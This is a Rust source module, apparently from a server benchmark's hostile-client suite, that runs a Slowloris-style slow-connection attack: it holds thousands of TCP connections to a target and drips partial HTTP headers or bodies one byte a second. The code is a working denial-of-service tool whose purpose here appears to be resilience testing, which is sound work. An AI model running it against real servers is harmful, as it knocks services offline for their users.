//! A process of its own that holds very many connections, and does next to nothing with them.
//!
//! Half of them are silent. A quarter send a byte of a head each second, a quarter a byte of a body, and never come to an
//! end. What the server closes is opened anew.

use std::cell::Cell;
use std::error::Error;
use std::io::{Write as _, stdout};
use std::net::SocketAddr;
use std::rc::Rc;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::{MissedTickBehavior, interval};

use crate::visit;

/// Connections a second, at first: what the server closes after a time of its own comes no faster then.
pub(crate) const OPENED_A_SECOND: usize = 2000;
/// Between two bytes of one connection.
const DRIP: Duration = Duration::from_secs(1);
/// Before a connection that could not be opened is tried again.
const PAUSE: Duration = Duration::from_millis(500);

#[derive(Clone, Copy)]
enum Manner {
    Silent,
    Head,
    Body,
}

/// What all connections count together.
#[derive(Default)]
struct Counts {
    open: Cell<usize>,
    closed: Cell<usize>,
    failed: Cell<usize>,
}

/// Holds `count` connections to `address` until standard input ends, then prints what became of them.
pub(crate) fn attack(mut arguments: impl Iterator<Item = String>) -> Result<(), Box<dyn Error>> {
    let mut argument = || arguments.next().ok_or("usage: hostile slow ADDRESS CONNECTIONS");
    let (address, count): (SocketAddr, usize) = (argument()?.parse()?, argument()?.parse()?);
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    let counts = Rc::new(Counts::default());
    runtime.block_on(tokio::task::LocalSet::new().run_until(async {
        for index in 0..count {
            tokio::task::spawn_local(hold(address, index, Rc::clone(&counts)));
        }
        // Ends with the benchmark that started it, however that ends.
        let (over, is_over) = tokio::sync::oneshot::channel();
        std::thread::spawn(move || {
            let _ = std::io::copy(&mut std::io::stdin(), &mut std::io::sink());
            over.send(())
        });
        let _ = is_over.await;
    }));
    let Counts { open, closed, failed } = &*counts;
    writeln!(stdout(), "{} {} {}", open.get(), closed.get(), failed.get())?;
    Ok(())
}

async fn hold(address: SocketAddr, index: usize, counts: Rc<Counts>) {
    let manner = [Manner::Silent, Manner::Head, Manner::Silent, Manner::Body][index % 4];
    tokio::time::sleep(Duration::from_secs_f64(index as f64 / OPENED_A_SECOND as f64)).await;
    loop {
        // Sixteen addresses, the same for each manner.
        match visit::connect(address, (index / 4) as u64).await {
            Ok(stream) => {
                counts.open.set(counts.open.get() + 1);
                let _ = converse(stream, manner).await;
                counts.open.set(counts.open.get() - 1);
                counts.closed.set(counts.closed.get() + 1);
            }
            Err(_) => {
                counts.failed.set(counts.failed.get() + 1);
                tokio::time::sleep(PAUSE).await;
            }
        }
    }
}

/// Stays until the server closes the connection.
async fn converse(mut stream: TcpStream, manner: Manner) -> std::io::Result<()> {
    const LINE: &[u8] = b"POST /v2/models/cnn_lstm/infer HTTP/1.1\r\nHost: volley\r\n";
    const HEAD: &[u8] = b"POST /v2/models/cnn_lstm/infer HTTP/1.1\r\nHost: volley\r\nContent-Length: 12000\r\n\r\n";
    let mut bytes = LINE.iter().copied().chain(std::iter::repeat(b'x'));
    match manner {
        Manner::Silent => {}
        Manner::Head => return drip(stream, || bytes.next().expect("it has no end")).await,
        Manner::Body => {
            stream.write_all(HEAD).await?;
            return drip(stream, || b' ').await;
        }
    }
    while stream.read(&mut [0; 512]).await? > 0 {}
    Ok(())
}

async fn drip(mut stream: TcpStream, mut next: impl FnMut() -> u8) -> std::io::Result<()> {
    let mut drip = interval(DRIP);
    drip.set_missed_tick_behavior(MissedTickBehavior::Delay);
    let mut said = [0; 512];
    loop {
        tokio::select! {
            read = stream.read(&mut said) => if read? == 0 { return Ok(()) },
            _ = drip.tick() => {
                stream.write_all(&[next()]).await?;
            }
        }
    }
}
